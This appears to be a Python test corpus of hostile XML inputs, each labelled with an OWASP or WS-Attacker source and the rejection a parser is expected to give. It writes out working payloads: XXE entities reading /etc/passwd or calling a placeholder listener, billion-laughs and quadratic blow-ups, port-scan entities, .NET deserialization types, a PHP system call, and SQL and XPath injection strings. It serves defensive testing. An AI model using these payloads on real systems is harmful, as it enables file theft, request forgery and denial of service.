"""Hostile XML, for every format that is XML: data contracts and envelopes.

``{listener}`` stands for the address of a listener that must stay silent.
"""

from tests.attacks.corpus import (
    Attack,
    Make,
    after,
    attribute,
    before,
    encoded,
    inside,
    nested,
    sibling,
    value,
    whole,
)

XML = ("xml", "soap")
BAD, BIG = "malformed", "too_large"
OWASP, XXE, WSA = "OWASP XML Security: ", "OWASP XXE Prevention: ", "WS-Attacker: "
XSI = b'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
OUT = b"http://{listener}/"
LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


def _xml(
    name: str,
    expect: str,
    source: str,
    make: Make,
    setting: str = "",
    headers: dict[str, str] | None = None,
) -> Attack:
    return Attack(f"xml: {name}", XML, expect, source, make, setting, headers)


def _doctype(name: str, source: str, subset: bytes, text: bytes = b"") -> Attack:
    def make(good: bytes) -> bytes:
        return subset + (good.replace(b"MARKER", text, 1) if text else good)

    return _xml(name, BAD, source, make)


def _attributes(count: int, text: bytes) -> bytes:
    return b" ".join(text % number for number in range(count))


DOCTYPES = [
    _doctype("DOCTYPE alone", XXE + "disallow DTDs", b"<!DOCTYPE a>"),
    _doctype(
        "DOCTYPE with an external subset on disk", XXE + "external DTD", b'<!DOCTYPE a SYSTEM "file:///etc/passwd">'
    ),
    _doctype(
        "DOCTYPE with an external subset over HTTP",
        OWASP + "External Connection",
        b'<!DOCTYPE a SYSTEM "' + OUT + b'a.dtd">',
    ),
    _doctype(
        "DOCTYPE with a public identifier",
        OWASP + "Remote Schema Poisoning",
        b'<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "' + OUT + b'x">',
    ),
    _doctype(
        "external entity on disk",
        OWASP + "Reflected File Retrieval",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        b"&e;",
    ),
    _doctype(
        "external entity over HTTP",
        OWASP + "Server Side Request Forgery",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "' + OUT + b'e">]>',
        b"&e;",
    ),
    _doctype(
        "external entity that names a host",
        OWASP + "External DNS Resolution",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://localhost.invalid/">]>',
        b"&e;",
    ),
    _doctype(
        "external entity for every port",
        OWASP + "Port Scanning",
        b"<!DOCTYPE a ["
        + b"".join(b'<!ENTITY e%d SYSTEM "http://127.0.0.1:%d/">' % (n, n) for n in range(1, 40))
        + b"]>",
        b"&e1;&e39;",
    ),
    _doctype(
        "external entity with a guessed password",
        OWASP + "Brute Forcing",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "http://admin:admin@{listener}/">]>',
        b"&e;",
    ),
    _doctype(
        "external entity from a device that never ends",
        XXE + "denial of service",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "file:///dev/random">]>',
        b"&e;",
    ),
    _doctype(
        "external entity through PHP's filter",
        XXE + "PHP",
        b'<!DOCTYPE a [<!ENTITY e SYSTEM "php://filter/read=convert.base64-encode/resource=x">]>',
        b"&e;",
    ),
    _doctype(
        "parameter entity",
        OWASP + "File Retrieval with Parameter Entities",
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>',
    ),
    _doctype(
        "parameter entity that calls out",
        OWASP + "File Retrieval with Parameter Entities",
        b'<!DOCTYPE a [<!ENTITY % p SYSTEM "' + OUT + b'p"> %p; %send;]>',
    ),
    _doctype("billion laughs", OWASP + "Billion Laughs", b'<!DOCTYPE a [<!ENTITY l0 "ha">' + LAUGHS + b"]>", b"&l9;"),
    _doctype(
        "quadratic blow-up",
        OWASP + "Quadratic Blowup",
        b'<!DOCTYPE a [<!ENTITY q "' + b"x" * 50_000 + b'">]>',
        b"&q;" * 10_000,
    ),
    _doctype(
        "recursive entity",
        OWASP + "Recursive Entity Reference",
        b'<!DOCTYPE a [<!ENTITY a "&b;"><!ENTITY b "&a;">]>',
        b"&a;",
    ),
    _doctype(
        "recursive parameter entities",
        OWASP + "Recursive Entity Reference",
        b'<!DOCTYPE a [<!ENTITY % a "&#37;b;"><!ENTITY % b "&#37;a;">%a;]>',
    ),
    _doctype(
        "entity that closes an element", OWASP + "XML Entity Expansion", b'<!DOCTYPE a [<!ENTITY e "</a><b>">]>', b"&e;"
    ),
    _doctype(
        "attribute default in a DTD", OWASP + "Local Schema Poisoning", b'<!DOCTYPE a [<!ATTLIST a b CDATA "c">]>'
    ),
    _doctype(
        "notation and unparsed entity",
        XXE + "external DTD",
        b'<!DOCTYPE a [<!NOTATION n SYSTEM "' + OUT + b'n"><!ENTITY e SYSTEM "x" NDATA n>]>',
    ),
    _doctype("conditional section", XXE + "external DTD", b"<!DOCTYPE a [<![INCLUDE[<!ELEMENT a ANY>]]>]>"),
    _doctype("DOCTYPE behind a comment", XXE + "disallow DTDs", b'<!-- --><!DOCTYPE a [<!ENTITY e "x">]>', b"&e;"),
    _doctype(
        "DOCTYPE between comments that pretend to hide it",
        XXE + "disallow DTDs",
        b'<!-- <!-- --><!DOCTYPE a [<!ENTITY e "x">]><!-- -->',
        b"&e;",
    ),
    _doctype("DOCTYPE behind a processing instruction", XXE + "disallow DTDs", b"<?p <!-- ?><!DOCTYPE a><!-- -->"),
    _doctype("DOCTYPE behind blanks", XXE + "disallow DTDs", b"\n\t <!DOCTYPE a>"),
    _doctype("DOCTYPE behind a byte order mark", XXE + "disallow DTDs", b"\xef\xbb\xbf<!DOCTYPE a>"),
    _doctype("DOCTYPE in small letters", XXE + "disallow DTDs", b"<!doctype a>"),
    _doctype("DOCTYPE cut by a comment", XXE + "disallow DTDs", b"<!DOC<!-- -->TYPE a>"),
    _xml("DOCTYPE inside the document", BAD, XXE + "disallow DTDs", inside(b"<!DOCTYPE a>")),
    _xml("DOCTYPE after the document", BAD, XXE + "disallow DTDs", after(b"<!DOCTYPE a>")),
    _xml(
        "DOCTYPE in UTF-16",
        BAD,
        XXE + "disallow DTDs",
        lambda good: b"\xff\xfe" + (b"<!DOCTYPE a>" + good).decode().encode("utf-16-le"),
    ),
    _xml(
        "DOCTYPE in UTF-16 that only Content-Type names",
        BAD,
        XXE + "disallow DTDs",
        lambda good: (b"<!DOCTYPE a>" + good).decode().encode("utf-16-le"),
        headers={"content-type": "application/xml; charset=utf-16"},
    ),
    _xml(
        "DOCTYPE in UTF-7",
        BAD,
        XXE + "disallow DTDs",
        before(b'<?xml version="1.0" encoding="utf-7"?>+ADwAIQ-DOCTYPE a+AD4-'),
    ),
    _xml("an entity that nobody declared", BAD, OWASP + "Violation of XML Specification Rules", value(b"&xxe;")),
    _xml("an entity of HTML", BAD, OWASP + "Violation of XML Specification Rules", value(b"&nbsp;")),
]

OUTSIDE = [
    _xml(
        "XInclude of a file",
        "accepted",
        XXE + "XInclude",
        inside(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    ),
    _xml(
        "XInclude over HTTP",
        "accepted",
        XXE + "XInclude",
        inside(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="' + OUT + b'x"/>'),
    ),
    _xml(
        "XInclude in a value",
        BAD,
        XXE + "XInclude",
        value(b'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="' + OUT + b'x"/>'),
    ),
    _xml(
        "schemaLocation",
        "accepted",
        OWASP + "Remote Schema Poisoning",
        attribute(XSI + b' xsi:schemaLocation="urn:x ' + OUT + b's.xsd"'),
    ),
    _xml(
        "noNamespaceSchemaLocation",
        "accepted",
        OWASP + "Man-in-the-Middle (MitM) Attack",
        attribute(XSI + b' xsi:noNamespaceSchemaLocation="' + OUT + b's.xsd"'),
    ),
    _xml(
        "embedded schema",
        "accepted",
        OWASP + "Embedded Schema",
        inside(
            b'<s:schema xmlns:s="http://www.w3.org/2001/XMLSchema"><s:import schemaLocation="' + OUT + b'"/></s:schema>'
        ),
    ),
    _xml("xml-stylesheet", BAD, XXE + "XSLT", before(b'<?xml-stylesheet type="text/xsl" href="' + OUT + b's.xsl"?>')),
    _xml("xml-model", BAD, XXE + "external references", before(b'<?xml-model href="' + OUT + b'm.rnc"?>')),
    _xml(
        "embedded transformation",
        "accepted",
        XXE + "XSLT",
        inside(
            b'<t:stylesheet xmlns:t="http://www.w3.org/1999/XSL/Transform"><t:include href="'
            + OUT
            + b'"/></t:stylesheet>'
        ),
    ),
    _xml(
        "xml:base and xlink",
        "accepted",
        XXE + "external references",
        attribute(b'xml:base="' + OUT + b'" xmlns:k="http://www.w3.org/1999/xlink" k:href="' + OUT + b'"'),
    ),
    _xml(
        "xop:Include in a value",
        BAD,
        WSA + "attachments",
        value(b'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="' + OUT + b'x"/>'),
    ),
    _xml(
        "xop:Include of a part that is not there",
        BAD,
        WSA + "attachments",
        value(b'<x:Include xmlns:x="http://www.w3.org/2004/08/xop/include" href="cid:a@b"/>'),
    ),
]

INSTRUCTIONS = [
    _xml(
        "processing instruction before the document",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b"<?p x?>"),
    ),
    _xml(
        "processing instruction in a value", BAD, OWASP + "Violation of XML Specification Rules", value(b"MAR<?p?>KER")
    ),
    _xml(
        "processing instruction after the document",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        after(b"<?p x?>"),
    ),
    _xml("flood of processing instructions", BAD, OWASP + "Jumbo Payloads", before(b"<?p?>" * 100_000)),
    _xml("PHP", BAD, OWASP + "Violation of XML Specification Rules", before(b"<?php system('id'); ?>")),
    _xml(
        "two XML declarations",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b'<?xml version="1.0"?><?xml version="1.0"?>'),
    ),
    _xml(
        "an XML declaration after a blank",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b' <?xml version="1.0"?>'),
    ),
    _xml("XML 1.1", BAD, OWASP + "Violation of XML Specification Rules", before(b'<?xml version="1.1"?>')),
    _xml(
        "an XML declaration without a version",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        before(b'<?xml encoding="utf-8"?>'),
    ),
    _xml(
        "an endless XML declaration",
        BAD,
        OWASP + "Malformed XML documents require extra time",
        before(b'<?xml version="1.0"' + b" " * 500_000),
    ),
    _xml(
        "comment in a value",
        "accepted",
        OWASP + "Well-Formed Document to Well-Formed Document Normalized",
        value(b"MAR<!-- x -->KER"),
    ),
    _xml(
        "CDATA in a value",
        "accepted",
        OWASP + "Well-Formed Document to Well-Formed Document Normalized",
        value(b"<![CDATA[MAR]]><![CDATA[KER]]>"),
    ),
    _xml("markup in CDATA", "accepted", OWASP + "String Data Types", value(b"<![CDATA[<script>alert(1)</script>]]>")),
    _xml(
        "a DOCTYPE that is only text", "accepted", OWASP + "String Data Types", value(b"<![CDATA[<!DOCTYPE a><?p?>]]>")
    ),
]

FLOODS = [
    _xml("too deep", BAD, OWASP + "Traditional Jumbo Payloads", inside(nested(b"<a>", b"</a>", 33)), "limits.depth"),
    _xml("much too deep", BAD, WSA + "CoerciveParsing", inside(nested(b"<a>", b"</a>", 9_000)), "limits.depth"),
    _xml("deep and never closed", f"{BIG}|{BAD}", OWASP + "Handling coercive parsing", whole(b"<a>" * 100_000)),
    _xml(
        "deep, never closed, few enough",
        BAD,
        OWASP + "Handling coercive parsing",
        whole(b"<a>" * 15_000),
        "limits.depth",
    ),
    _xml(
        "closed and never opened",
        f"{BIG}|{BAD}",
        OWASP + "Malformed XML documents require extra time",
        whole(b"</a>" * 200_000),
    ),
    _xml("too many elements", BIG, WSA + "XmlElementCount", inside(b"<a/>" * 20_001), "limits.elements"),
    _xml("many elements, few enough", "accepted", WSA + "XmlElementCount", inside(b"<a/>" * 15_000)),
    _xml("a list of everything", BIG, OWASP + "Occurrences", inside(b"<a>1</a>" * 30_000), "limits.elements"),
    _xml(
        "too many attributes",
        BIG,
        WSA + "XmlAttributeCount",
        inside(b"<a " + _attributes(65, b"a%d='1'") + b"/>"),
        "limits.attributes",
    ),
    _xml(
        "many thousand attributes",
        BIG,
        WSA + "XmlAttributeCount",
        inside(b"<a " + _attributes(60_000, b"a%d='1'") + b"/>"),
        "limits.attributes",
    ),
    _xml(
        "too many attributes on the document element",
        BIG,
        WSA + "XmlAttributeCount",
        attribute(_attributes(65, b"a%d='1'")),
        "limits.attributes",
    ),
    _xml("the same attribute twice", BAD, OWASP + "Violation of XML Specification Rules", inside(b"<a b='1' b='2'/>")),
    _xml(
        "the same attribute through two prefixes",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        inside(b"<a xmlns:p='u' xmlns:q='u' p:b='1' q:b='2'/>"),
    ),
    _xml(
        "too many namespaces",
        BIG,
        WSA + "XmlAttributeCount",
        inside(b"<a " + _attributes(65, b"xmlns:n%d='u'") + b"/>"),
        "limits.attributes",
    ),
    _xml(
        "namespaces on every level",
        "accepted",
        WSA + "XmlAttributeCount",
        inside(b"".join(b"<a " + _attributes(60, b"xmlns:n%d='u'") + b">" for _ in range(20)) + b"</a>" * 20),
    ),
    _xml(
        "names that collide in DJBX31A",
        BIG,
        WSA + "HashCollisionDJBX31A",
        inside(
            b"<a "
            + b" ".join(b"%s%s='1'" % (x, y) for x in (b"tt", b"uU", b"v6") for y in (b"n%d" % n for n in range(40)))
            + b"/>"
        ),
        "limits.attributes",
    ),
    _xml(
        "names that collide in DJBX33A",
        BIG,
        WSA + "HashCollisionDJBX33A",
        inside(
            b"<a "
            + b" ".join(b"%s%s='1'" % (x, y) for x in (b"tt", b"uS") for y in (b"n%d" % n for n in range(40)))
            + b"/>"
        ),
        "limits.attributes",
    ),
    _xml(
        "elements that collide in DJBX33X",
        "accepted",
        WSA + "HashCollisionDJBX33X",
        inside(b"".join(b"<%s%d/>" % (x, n) for x in (b"tt", b"uS") for n in range(3_000))),
    ),
    _xml("too long a name", BIG, WSA + "XmlOverlongNames", inside(b"<" + b"n" * 1025 + b"/>"), "limits.name_bytes"),
    _xml(
        "much too long a name",
        BIG,
        WSA + "XmlOverlongNames",
        inside(b"<" + b"n" * 600_000 + b"/>"),
        "limits.name_bytes",
    ),
    _xml(
        "too long a name of an attribute",
        BIG,
        WSA + "XmlOverlongNames",
        inside(b"<a " + b"n" * 1025 + b"='1'/>"),
        "limits.name_bytes",
    ),
    _xml(
        "too long a prefix",
        BIG,
        WSA + "XmlOverlongNames",
        inside(b"<%s:a xmlns:%s='u'/>" % (b"n" * 1025, b"n" * 1025)),
        "limits.name_bytes",
    ),
    _xml(
        "too long a namespace",
        BIG,
        WSA + "XmlOverlongNames",
        inside(b"<a xmlns='" + b"n" * 1025 + b"'/>"),
        "limits.name_bytes",
    ),
    _xml(
        "a long namespace for many elements",
        BIG,
        OWASP + '"Small" Jumbo Payloads',
        inside(b"<a xmlns:p='" + b"n" * 500_000 + b"'>" + b"<p:b/>" * 15_000 + b"</a>"),
        "limits.name_bytes",
    ),
    _xml("too long a text", BIG, OWASP + "String Data Types", value(b"x" * 65_537), "limits.text_bytes"),
    _xml(
        "too long a text in pieces",
        BIG,
        OWASP + "String Data Types",
        value(b"<!-- -->".join([b"x" * 1000] * 70)),
        "limits.text_bytes",
    ),
    _xml(
        "too long a text of references",
        BIG,
        OWASP + "String Data Types",
        value(b"&#120;" * 65_537),
        "limits.text_bytes",
    ),
    _xml(
        "too long a text of carriage returns in CDATA",
        BIG,
        OWASP + "String Data Types",
        value(b"<![CDATA[" + b"\r" * 65_537 + b"]]>"),
        "limits.text_bytes",
    ),
    _xml(
        "too long a text beside an element",
        BIG,
        OWASP + "String Data Types",
        value(b"x" * 65_537 + b"<b/>"),
        "limits.text_bytes",
    ),
    _xml(
        "too long a text of an attribute",
        BIG,
        OWASP + "String Data Types",
        inside(b"<a b='" + b"x" * 65_537 + b"'/>"),
        "limits.text_bytes",
    ),
    _xml("flood of comments", BIG, OWASP + "Jumbo Payloads", before(b"<!---->" * 50_000), "limits.elements"),
    _xml("flood of CDATA sections", BIG, OWASP + "Jumbo Payloads", value(b"<![CDATA[]]>" * 20_001), "limits.elements"),
    _xml("one long comment", "accepted", OWASP + "Jumbo Payloads", before(b"<!--" + b"x" * 500_000 + b"-->")),
    _xml("half a mebibyte of blanks", "accepted", OWASP + "Jumbo Payloads", after(b" \n" * 250_000)),
    _xml(
        "an endless comment",
        f"{BAD}|{BIG}",
        OWASP + "Malformed XML documents require extra time",
        before(b"<!--" * 200_000),
    ),
    _xml(
        "an endless CDATA section",
        BAD,
        OWASP + "Malformed XML documents require extra time",
        value(b"<![CDATA[" + b"x" * 500_000),
    ),
    _xml(
        "an endless attribute",
        f"{BAD}|{BIG}",
        OWASP + "Malformed XML documents require extra time",
        before(b'<a b="' + b"x" * 500_000),
    ),
    _xml(
        "quotes without end",
        f"{BAD}|{BIG}",
        OWASP + "Malformed XML documents require extra time",
        before(b'<a "' * 5_000),
    ),
    _xml("ampersands", BAD, OWASP + "Malformed XML documents require extra time", value(b"&" * 500_000)),
    _xml(
        "larger than a body may be",
        BIG,
        "OWASP Web Service Security: Message Size",
        after(b" " * 1024 * 1024),
        "limits.body_bytes",
    ),
]

ENCODINGS = [
    _xml(
        "UTF-8 with a byte order mark",
        "accepted",
        OWASP + "Violation of XML Specification Rules",
        before(b"\xef\xbb\xbf"),
    ),
    _xml(
        "two byte order marks", BAD, OWASP + "Violation of XML Specification Rules", before(b"\xef\xbb\xbf\xef\xbb\xbf")
    ),
    _xml(
        "UTF-16 with a byte order mark alone",
        f"{BAD} soap=accepted servicestack-soap=accepted",
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-16"),
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "UTF-16 with byte order mark and declaration",
        f"accepted webapi={BAD}",
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-16", "utf-16"),
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "UTF-16, big end first, without anything",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-16-be"),
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "UTF-16, little end first, without anything",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-16-le"),
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "UTF-16 that calls itself UTF-8",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-16", "utf-8"),
    ),
    _xml(
        "UTF-8 that calls itself UTF-16",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-8", "utf-16"),
    ),
    _xml("UTF-32", BAD, OWASP + "Violation of XML Specification Rules", encoded("utf-32")),
    _xml(
        "UTF-32 that calls itself so",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-32-be", "utf-32"),
    ),
    _xml(
        "Latin-1 that calls itself so",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("latin-1", "iso-8859-1"),
    ),
    _xml(
        "UTF-8 that calls itself Latin-1",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-8", "iso-8859-1"),
    ),
    _xml("Latin-1 that says nothing", BAD, OWASP + "Violation of XML Specification Rules", value(b"Zo\xeb")),
    _xml("UTF-7", BAD, OWASP + "Violation of XML Specification Rules", encoded("utf-7", "utf-7")),
    _xml("EBCDIC", BAD, OWASP + "Violation of XML Specification Rules", encoded("cp037")),
    _xml(
        "EBCDIC that calls itself so",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("cp037", "ebcdic-cp-us"),
    ),
    _xml("an unknown encoding", BAD, OWASP + "Violation of XML Specification Rules", encoded("utf-8", "x-nonsense")),
    _xml(
        "an encoding of Python's",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-8", "unicode_escape"),
    ),
    _xml("a mark of UTF-16 before UTF-8", BAD, OWASP + "Violation of XML Specification Rules", before(b"\xff\xfe")),
    _xml("overlong UTF-8", BAD, OWASP + "Violation of XML Specification Rules", value(b"\xc0\xbcb\xc0\xbe")),
    _xml(
        "surrogates in UTF-8", BAD, OWASP + "Violation of XML Specification Rules", value(b"\xed\xa0\xbd\xed\xb8\x80")
    ),
    _xml(
        "half a surrogate pair in UTF-16",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        lambda good: b"\xff\xfe" + good.decode().replace("MARKER", "\ud800").encode("utf-16-le", "surrogatepass"),
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "an odd number of bytes of UTF-16",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        lambda good: b"\xff\xfe" + good.decode().encode("utf-16-le") + b"x",
        headers={"content-type": "text/xml"},
    ),
    _xml(
        "a charset of the transport that nobody reads",
        "unsupported_media webapi=accepted servicestack=accepted",
        OWASP + "Violation of XML Specification Rules",
        lambda good: good,
        headers={"content-type": "text/xml; charset=utf-7"},
    ),
    _xml(
        "a charset of the transport that is not that of the declaration",
        BAD + " servicestack=accepted",
        OWASP + "Violation of XML Specification Rules",
        encoded("utf-8", "utf-8"),
        headers={"content-type": "text/xml; charset=utf-16"},
    ),
]

BROKEN = [
    _xml("no end", BAD, OWASP + "Handling malformed XML documents", lambda good: good[: len(good) // 2]),
    _xml("the last character is missing", BAD, OWASP + "Handling malformed XML documents", lambda good: good[:-1]),
    _xml("two documents", BAD, OWASP + "Handling malformed XML documents", lambda good: good + good),
    _xml("text after the document", BAD, OWASP + "Handling malformed XML documents", after(b"x")),
    _xml("text before the document", BAD, OWASP + "Handling malformed XML documents", before(b"x")),
    _xml("another element's end", BAD, OWASP + "Malformed Document to Malformed Document", inside(b"<a></b>")),
    _xml("crossed elements", BAD, OWASP + "Malformed Document to Malformed Document", inside(b"<a><b></a></b>")),
    _xml("a reference to NUL", BAD, OWASP + "Violation of XML Specification Rules", value(b"&#0;")),
    _xml("a reference to a control character", BAD, OWASP + "Violation of XML Specification Rules", value(b"&#x1F;")),
    _xml("a reference beyond Unicode", BAD, OWASP + "Violation of XML Specification Rules", value(b"&#x110000;")),
    _xml(
        "a reference to half a surrogate pair", BAD, OWASP + "Violation of XML Specification Rules", value(b"&#xD800;")
    ),
    _xml("a reference without end", BAD, OWASP + "Violation of XML Specification Rules", value(b"&#" + b"9" * 10_000)),
    _xml("a NUL", BAD, OWASP + "Violation of XML Specification Rules", value(b"a\0b")),
    _xml("a control character", BAD, OWASP + "Violation of XML Specification Rules", value(b"a\x08b")),
    _xml("an ampersand alone", BAD, OWASP + "Violation of XML Specification Rules", value(b"a & b")),
    _xml("the end of CDATA in a text", BAD, OWASP + "Violation of XML Specification Rules", value(b"a]]>b")),
    _xml("an attribute without quotes", BAD, OWASP + "Violation of XML Specification Rules", inside(b"<a b=c/>")),
    _xml("an attribute without a value", BAD, OWASP + "Violation of XML Specification Rules", inside(b"<a b/>")),
    _xml("an undeclared prefix", BAD, OWASP + "Violation of XML Specification Rules", inside(b"<p:a/>")),
    _xml(
        "the prefix xml for something else",
        BAD,
        OWASP + "Violation of XML Specification Rules",
        inside(b"<a xmlns:xml='urn:x'/>"),
    ),
    _xml("a prefix declared empty", BAD, OWASP + "Violation of XML Specification Rules", inside(b"<p:a xmlns:p=''/>")),
    _xml("two hyphens in a comment", BAD, OWASP + "Violation of XML Specification Rules", before(b"<!-- a -- b -->")),
    _xml("only a comment", BAD, OWASP + "Handling malformed XML documents", whole(b"<!-- -->")),
    _xml("only blanks", BAD, OWASP + "Handling malformed XML documents", whole(b" \n ")),
    _xml("HTML", BAD, OWASP + "Document without Schema", whole(b"<!DOCTYPE html><html><p>x<br></html>")),
    _xml("JSON", BAD, "OWASP REST Security: Validate request content types", whole(b'{"a": 1}')),
    _xml("binary", BAD, OWASP + "Handling malformed XML documents", whole(bytes(range(256)) * 8)),
    _xml("another document", BAD, OWASP + "Document without Schema", whole(b"<a xmlns='urn:x'><b/></a>")),
]

MEANING = [
    _xml("a member more", "accepted", OWASP + "Unrestrictive Schema", inside(b"<IsAdmin>true</IsAdmin>")),
    _xml(
        "the same member twice",
        "accepted soap=malformed|accepted",
        OWASP + "Improper Data Validation",
        sibling(b"other"),
    ),
    _xml("a member as an element of elements", BAD, OWASP + "String Data Types", value(b"<a>1</a>")),
    _xml("markup as text", "accepted", OWASP + "String Data Types", value(b"&lt;/a&gt;&lt;a&gt;")),
    _xml("SQL", "accepted", OWASP + "String Data Types", value(b"'; DROP TABLE sessions; --")),
    _xml("XPath", "accepted", OWASP + "String Data Types", value(b"' or '1'='1")),
    _xml(
        "another type of .NET",
        f"{BAD} soap=accepted servicestack-soap=accepted",
        "Deserialization of other types",
        attribute(
            XSI
            + b' xsi:type="o:ObjectDataProvider" xmlns:o="http://schemas.datacontract.org/2004/07/System.Windows.Data"'
        ),
    ),
    _xml(
        "another type of .NET for a member",
        "accepted",
        "Deserialization of other types",
        inside(
            b"<a "
            + XSI
            + b' xsi:type="o:Process" xmlns:o="http://schemas.datacontract.org/2004/07/System.Diagnostics"><b/></a>'
        ),
    ),
    _xml(
        "a reference to an object that is not there",
        f"{BAD} soap=accepted servicestack-soap=accepted",
        OWASP + "Recursive Entity Reference",
        attribute(b'xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/" z:Ref="i9"'),
    ),
    _xml(
        "a null that is none",
        f"{BAD} soap=accepted servicestack-soap=accepted",
        OWASP + "General Data Restrictions",
        attribute(XSI + b' xsi:nil="maybe"'),
    ),
]

ATTACKS = [*DOCTYPES, *OUTSIDE, *INSTRUCTIONS, *FLOODS, *ENCODINGS, *BROKEN, *MEANING]
